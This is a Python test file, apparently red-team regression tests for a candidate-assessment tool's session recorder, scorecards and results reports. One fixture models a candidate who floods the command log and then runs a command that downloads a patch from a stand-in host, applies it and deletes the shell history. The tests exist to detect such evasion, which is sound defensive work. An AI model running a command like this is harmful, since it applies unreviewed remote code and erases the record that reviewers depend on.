"""Red team 16f: this round's newest fixes to attempts, resume and the hiring scorecard (red teams 16b, 16c):
`typed_lines(limit)` / `recorder.COMMANDS_MAX`, manifests matched by `samefile` or a vanished file,
`set_aside`, `next_attempt`, `pack_attempts`' cut sessions.

Each test is written to fail while the attack works and to pass once it is defended; controls keep honest
behaviour working. No Docker.
"""

from __future__ import annotations

import csv
import json

import pytest
from test_assess import bundle
from test_attacks_redteam15c import cli
from test_attacks_redteam16c import result
from test_report_properties import record

from sweserve.assess.agent import CAST_FILE
from sweserve.assess.recorder import COMMANDS_MAX, CastWriter, commands_from_cast
from sweserve.assess.scorecard import replay_page

# ---- R16f-1: 20,000 one-key lines first push every real command off the commands-typed list

CHEAT = "curl -s http://paste.example/fix.diff | git apply && rm -f ~/.bash_history"


def _flooded_cast(folder):
    """The candidate's browser sends "a⏎" 20,000 times over the websocket (40 KB, far inside every budget: the
    cast's 64 MiB, the key record's 256 KiB), then works: fetches a fix and applies it."""
    cast = CastWriter(folder / CAST_FILE, 80, 24)
    cast.event("i", "stty -echo; cat >/dev/null\r")
    cast.event("i", "a\r" * COMMANDS_MAX)
    cast.event("i", "\x03")  # ^C out of cat
    cast.event("i", "stty echo\r")
    cast.event("i", CHEAT + "\r")
    cast.close()
    return folder / CAST_FILE


def test_r16f_1_a_flood_of_one_key_lines_does_not_hide_the_commands_typed_after_it(tmp_path):
    """R16c-1's bound keeps the first 20,000 entries and counts the rest. 40 KB of "a⏎" fills it, and every
    command typed after it (the whole of the real work: here the fetched patch and the history wiped) is in
    neither the replay page's commands-typed table nor `AgentRun.transcript`; the reviewer sees 20,000 rows of
    `a` and, below them, a count. The scorecard itself says nothing. A bound that an attacker fills for free
    with entries of its choosing must not decide which commands the reviewer reads: identical consecutive
    entries can be folded into one (`a ⟨×20,000⟩`), and the last entries kept as well as the first."""
    cast = _flooded_cast(tmp_path / "trial")
    listed = [c for _, c in commands_from_cast(cast)]
    assert len(listed) <= COMMANDS_MAX + 2  # still bounded (R16c-1)
    assert any(CHEAT in c for c in listed), "the command typed after the flood is on no list the reviewer reads"
    page = replay_page("mallory", result("human-mallory", bundle(1), "resolved", 60, trial_dir=str(cast.parent)))
    assert "curl -s http://paste.example/fix.diff" in page


def test_r16f_1_control_a_long_honest_session_keeps_its_first_commands_and_says_how_many_more(tmp_path):
    folder = tmp_path / "trial"
    cast = CastWriter(folder / CAST_FILE, 80, 24)
    for i in range(COMMANDS_MAX + 500):
        cast.event("i", f"echo {i}\r")
    cast.close()
    listed = [c for _, c in commands_from_cast(folder / CAST_FILE)]
    assert len(listed) <= COMMANDS_MAX + 2
    assert listed[0] == "echo 0" and "echo 1000" in listed
    assert any("not listed here" in c for c in listed)


# ---- R16f-2: a deleted scratch results file's manifest is charged to every other file in the folder

def _write_manifest(root, run_id, tasks, results, attempts=1):
    path = root / "runs" / run_id / "manifest.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({
        "run_id": run_id, "started_at": "2026-12-01T00:00:00+00:00", "agent": "a", "results": results,
        "agent_config_hash": "h", "attempts": attempts, "per_task": {}, "tasks": {t: "h" for t in tasks},
        "families": {t: "decoding" for t in tasks}, "unready": []}))


def test_r16f_2_a_deleted_scratch_files_manifest_is_not_charged_to_another_results_file(tmp_path):
    """R16b-3 reads a manifest whose results file is gone as naming none (so a renamed file keeps its runs). A
    vanished file is as often a deleted one: the team tries agent `a` with `--output results/scratch.jsonl
    --attempts 5` on ten tasks, deletes scratch.jsonl, and runs the real evaluation into results/a.jsonl (one
    task, resolved). `report results/a.jsonl` now charges the scratch run to it: ten tasks selected five times
    each, nine tasks and 49 attempts `missing`, pass@1 2% where the file holds one resolved attempt of the one task its run
    selected. A results file's report must count the runs that wrote it (a renamed file: its inode, or its own
    records' run ids), not every run whose file is gone."""
    out = tmp_path / "results"
    out.mkdir()
    _write_manifest(out, "S", [f"o__r-{i}" for i in range(1, 11)], "scratch.jsonl", attempts=5)
    _write_manifest(out, "R", ["o__r-1"], "a.jsonl")
    (out / "a.jsonl").write_text(record("o__r-1", "resolved", run_id="R").model_dump_json() + "\n")
    proc = cli("report", str(out / "a.jsonl"), "--json", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    (rep,) = json.loads(proc.stdout)
    assert rep["statuses"].get("missing", 0) == 0
    assert rep["overall"]["pass_at_1"] == pytest.approx(1.0)


def test_r16f_2_control_a_renamed_file_still_counts_its_killed_runs_missing_tasks(tmp_path):
    """R16b-3's case, kept: the run R wrote a.jsonl, was killed after one of three tasks, and a.jsonl was renamed."""
    out = tmp_path / "results"
    out.mkdir()
    _write_manifest(out, "R", ["o__r-1", "o__r-2", "o__r-3"], "a.jsonl")
    (out / "a-2026-12.jsonl").write_text(record("o__r-1", "resolved", run_id="R").model_dump_json() + "\n")
    proc = cli("report", str(out / "a-2026-12.jsonl"), "--json", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    (rep,) = json.loads(proc.stdout)
    assert rep["statuses"]["missing"] == 2


# ---- R16f-3: a retake in another pack leaves the failed first attempt out of the ability fit

def test_r16f_3_a_failed_attempt_in_another_pack_stays_in_the_ability(tmp_path):
    """R16c-3 made the fit take every graded attempt of a retake, and R16c-5 named an attempt of the same task
    in another pack; the two were not joined. Mallory fails task 1 in pack `round-1` (30 minutes with it); in
    pack `round-2` (tasks 1 and 2) she and Bob both resolve everything. Her scorecard names the earlier attempt,
    and beside it shows an ability equal to Bob's to the digit: the fit of `round-2` never saw her failure on
    task 1, which a retake in the same pack would have counted (R16c-3's own case). The hiring team compares the
    ability numbers across candidates."""
    from test_attacks_redteam16c import ability_of

    from sweserve.assess.packs import choose_pack
    from sweserve.assess.scorecard import write_scorecards
    from sweserve.evaluation.results import ResultsWriter

    b1, b2 = bundle(1), bundle(2, "serving-api")
    first, second = choose_pack("round-1", [b1], 1, 3600), choose_pack("round-2", [b1, b2], 2, 7200)
    out = tmp_path / "out"
    with ResultsWriter(out / first.name / "mallory.jsonl") as w:
        w.write(result("human-mallory", b1, "failed", 1800, run_id="run-a"))
    for name in ("mallory", "bob"):
        with ResultsWriter(out / second.name / f"{name}.jsonl") as w:
            w.write(result(f"human-{name}", b1, "resolved", 600, run_id=f"{name}-1"))
            w.write(result(f"human-{name}", b2, "resolved", 600, run_id=f"{name}-2"))
    agents = [result("oracle", b, "resolved", 10) for b in (b1, b2)] + [result("null", b, "failed", 5) for b in (b1, b2)]
    cards = write_scorecards(second, out / second.name, tmp_path / "report", None, agents)
    page = cards.pages["mallory"].read_text()
    assert "round-1" in page  # named (R16c-5) ...
    bob, mallory = ability_of(cards.pages["bob"].read_text()), ability_of(page)
    assert mallory < bob, f"mallory {mallory:+.2f} vs bob {bob:+.2f}: her failure in round-1 left the fit"


# ---- R16f-4: a session a restart cut, in a pack rebuilt since, is on no scorecard

def test_r16f_4_a_cut_session_in_another_pack_is_named_on_the_new_packs_scorecard(tmp_path):
    """R16c-2 names a session a restart cut (its manifest and cast, no result), and R16c-5 names attempts in
    another pack; together they miss one case. Mallory reads task 1 of pack `round-1` for most of its budget;
    `assess serve` restarts (the README: sessions in progress end, links spent). The hiring team, as R16c-5
    describes, rebuilds the pack under a new name (`round-1b`: the old pack's links are refused) and sends her a
    link to it. `pack_attempts(round-1)` lists a cut session only beside a graded attempt in the same folder, and
    there is none there: her scorecard for `round-1b` reads a first try, with no earlier attempt named."""
    from sweserve.assess.agent import BrowserAgent, Seat
    from sweserve.assess.packs import choose_pack
    from sweserve.assess.scorecard import write_scorecards
    from sweserve.evaluation.evaluate import write_manifest
    from sweserve.evaluation.results import ResultsWriter
    from sweserve.evaluation.trial_folder import TrialFolder

    b1 = bundle(1)
    first, second = choose_pack("round-1", [b1], 1, 3600), choose_pack("round-1b", [b1], 1, 3600)
    out = tmp_path / "out"
    agent = BrowserAgent("mallory", Seat("mallory"), 1800, lambda _b: None)  # only its name is used here
    path = out / first.name / "mallory.jsonl"
    with ResultsWriter(path):  # the session's run opened its results file, and was cut before a result
        write_manifest(path, "run-first", agent, [b1], 1)
    cast = CastWriter(TrialFolder.for_trial(path, "run-first", "human-mallory", b1.task.task_id, 1).path / CAST_FILE,
                      80, 24)
    cast.event("i", "cat /sweserve/instruction.md; vim python/sglang/srt/x.py\r")
    cast.close()
    again = out / second.name / "mallory.jsonl"
    write_manifest(again, "run-second", agent, [b1], 1)
    with ResultsWriter(again) as w:
        w.write(result("human-mallory", b1, "resolved", 300, attempt=1, run_id="run-second"))
    cards = write_scorecards(second, out / second.name, tmp_path / "report", None, [])
    row = next(r for r in cards.csv.read_text().splitlines() if r.startswith("mallory,"))
    assert "round-1" in row.split(",", 14)[-1], f"the CSV names no earlier attempt: {row}"
    assert "retake" in cards.pages["mallory"].read_text()


def _alice_resolved(tmp_path):
    """Pack `round-2` (one task) under `tmp_path/out`, where alice's one run resolved it: (pack, out)."""
    from sweserve.assess.agent import BrowserAgent, Seat
    from sweserve.assess.packs import choose_pack
    from sweserve.evaluation.evaluate import write_manifest
    from sweserve.evaluation.results import ResultsWriter

    b1 = bundle(1)
    pack = choose_pack("round-2", [b1], 1, 3600)
    out = tmp_path / "out"
    path = out / pack.name / "alice.jsonl"
    write_manifest(path, "run-only", BrowserAgent("alice", Seat("alice"), 1800, lambda _b: None), [b1], 1)
    with ResultsWriter(path) as w:
        w.write(result("human-alice", b1, "resolved", 300, attempt=1, run_id="run-only"))
    return pack, out


# ---- R16f-5: a link to the pack's own folder beside it makes every candidate a retaker

def test_r16f_5_a_link_to_the_packs_own_folder_is_not_another_pack(tmp_path):
    """The hiring team keeps `<output>/current` as a link to this round's pack folder (for the dashboards and
    `assess report --output`). `other_packs` takes every folder beside the pack's with a results file and
    compares paths, not files: the link is "another pack" holding the same results, so every honest candidate's
    scorecard and CSV name their own attempt as an earlier one ("a retake: attempt 1 in pack current:
    resolved"), and each attempt enters the fit twice (R16f-3's join)."""
    from sweserve.assess.scorecard import write_scorecards

    pack, out = _alice_resolved(tmp_path)
    (out / "current").symlink_to(pack.name)
    cards = write_scorecards(pack, out / pack.name, tmp_path / "report", None, [])
    assert "retake" not in cards.pages["alice"].read_text()
    assert [r["earlier_attempts"] for r in csv.DictReader(cards.csv.open())] == [""]  # no earlier attempt


# ---- R16f-6: two slow removals fill the host's removal pool: every other task end waits behind them

def test_r16f_6_two_slow_removals_of_other_candidates_do_not_hold_my_task_end(tmp_path):
    """R16c-4 made `Context.settle` wait for the context's own removals only. But every assessment shares one
    `DockerHost`, whose removals run on a pool of two threads: Bob and Carol (two candidates in the same window,
    each leaving a million files in their grade sandbox's /tmp) each hold a thread for minutes, and Alice's own
    removal, queued behind them, does not start. Her `settle` waits for it: her task end hangs on "grading…"
    exactly as before the fix. (Boxes whose `remove` waits stand for a slow `docker rm`.)"""
    import dataclasses
    import threading

    from local_backend import local_context

    from sweserve.environment.docker_host import DockerHost

    ctx = local_context(tmp_path / "state")
    host = object.__new__(DockerHost)  # the real host's removal pool, settle and discard, without a daemon
    host.host_gpus = []
    host.__post_init__()
    ctx.host.discard, ctx.host.settle = host.discard, host.settle
    gone = threading.Event()

    class SlowBox:
        def remove(self):
            gone.wait(30)

    class Box:
        def remove(self):
            pass

    bob, carol, alice = (dataclasses.replace(ctx, results_run_id=n) for n in ("bob-1", "carol-1", "alice-1"))
    bob.discard(SlowBox())
    carol.discard(SlowBox())
    alice.discard(Box())
    done = threading.Event()
    threading.Thread(target=lambda: (alice.settle(), done.set()), daemon=True).start()
    try:
        assert done.wait(5), "Alice's task end waited behind Bob's and Carol's removals"
    finally:
        gone.set()


# ---- R16f-7: any other .jsonl under --output stops every pack's scorecards

def test_r16f_7_a_jsonl_that_is_no_results_file_beside_the_pack_does_not_stop_its_scorecards(tmp_path):
    """`other_packs` reads every folder beside the pack's that holds a .jsonl as a pack's results
    (`read_results`, which refuses a line that is no result). A folder of anything else under the same
    `--output` (an export of the CSVs as JSON lines, a dataset's `tasks.jsonl`, an older version's results)
    makes `assess report` fail for every pack: no scorecard at all, where before R16c-5 there was one."""
    from sweserve.assess.scorecard import write_scorecards

    pack, out = _alice_resolved(tmp_path)
    (out / "exports").mkdir()
    (out / "exports" / "candidates.jsonl").write_text('{"candidate": "alice", "decision": "hire"}\n')
    cards = write_scorecards(pack, out / pack.name, tmp_path / "report", None, [])
    assert "alice" in cards.pages


def test_a_cut_session_whose_manifest_names_no_family_is_no_crash(tmp_path):
    """R16f-4's listing made a record with family "unknown" from a manifest without families (one written before
    manifests named them): not a family a result may hold, so reading the folder raised."""
    import json

    from sweserve.assess.agent import BrowserAgent, Seat
    from sweserve.assess.scorecard import pack_attempts
    from sweserve.evaluation.evaluate import write_manifest
    from sweserve.evaluation.results import ResultsWriter
    from sweserve.evaluation.trial_folder import TrialFolder

    b1 = bundle(1)
    agent = BrowserAgent("mallory", Seat("mallory"), 1800, lambda _b: None)
    path = tmp_path / "round-1" / "mallory.jsonl"
    with ResultsWriter(path):
        manifest = write_manifest(path, "run-first", agent, [b1], 1)
    data = json.loads(manifest.read_text())
    del data["families"]
    manifest.write_text(json.dumps(data))
    cast = CastWriter(TrialFolder.for_trial(path, "run-first", "human-mallory", b1.task.task_id, 1).path / CAST_FILE,
                      80, 24)
    cast.event("i", "ls\r")
    cast.close()
    assert pack_attempts(path.parent, cut_alone=True) == {}
